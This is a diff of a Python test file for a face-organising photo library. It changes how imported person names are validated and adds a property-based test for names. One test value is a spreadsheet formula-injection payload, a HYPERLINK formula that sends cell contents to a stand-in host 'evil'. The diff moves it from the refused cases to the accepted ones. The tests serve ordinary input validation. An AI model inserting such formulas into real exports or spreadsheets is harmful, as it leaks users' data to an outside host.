@@ -2,10 +2,13 @@
 
 from __future__ import annotations
 
+import json
 import os
 from pathlib import Path
 
 import pytest
+from hypothesis import example, given
+from hypothesis import strategies as st
 
 from faceorg.catalog import faces, people, photos, vectors
 from faceorg.domain import Box
@@ -14,6 +17,7 @@ from faceorg.library.exports import documents
 from faceorg.library.exports.exchange import export_decisions, import_decisions
 from faceorg.library.opening import history
 from faceorg.library.people import edits
+from faceorg.library.people.names import clean_name
 from faceorg.messages.codes import ProblemCode, ReasonCode
 from faceorg.progress import CancelToken
 
@@ -76,7 +80,6 @@ REFUSED = [
     (with_person(id=-1), ReasonCode.NUMBER_OUT_OF_RANGE),
     (with_person(born_on="1981-02-30"), ReasonCode.ENTRY_OF_WRONG_KIND),
     (with_person(born_on="9999-01-01"), ReasonCode.NUMBER_OUT_OF_RANGE),
-    (with_person(name='=HYPERLINK("http://evil/?x="&A1,"click")'), ReasonCode.NAME_IS_A_FORMULA),
     (with_person(name="\u200b\u200b"), ProblemCode.NAME_EMPTY),
     (with_person(name="Anna\u202ecod.exe"), ProblemCode.NAME_WITH_CONTROL_CHARACTERS),
     (with_person(name=["Anna"]), ReasonCode.ENTRY_OF_WRONG_KIND),
@@ -129,8 +132,8 @@ def test_the_documents_that_went_wrong_are_refused_and_the_sound_one_is_not(shar
             sound.append(file.name)
         except InvalidInput:
             refused.append(file.name)
-    assert sound == ["valid_drawn.json"]
-    assert len(refused) == 10
+    assert sound == ["name_formula.json", "valid_drawn.json"]  # a name like any other: a table shows it, see exports
+    assert len(refused) == 9
 
 
 def test_names_that_only_look_odd_are_taken(family):
@@ -142,6 +145,20 @@ def test_names_that_only_look_odd_are_taken(family):
     ]
     import_decisions(family.library, document, "x.json")
     assert {person.name for person in people.people(family.library.catalog)} == set(names)
+
+
+@given(st.text())
+@example('=HYPERLINK("http://evil/?x="&A1,"click")')
+@example("-Anna (Ben's)!")
+@example("@home (old)")
+def test_every_name_that_a_person_can_have_is_taken(typed):
+    """An export of a library is never refused for how somebody is called in it."""
+    try:
+        name = clean_name(typed)
+    except InvalidInput:
+        return
+    found = documents.checked(json.loads(json.dumps(with_person(name=name))), "x.json")
+    assert found.people[0].name == name
 
 
 def test_two_people_of_one_name_stay_two(family):
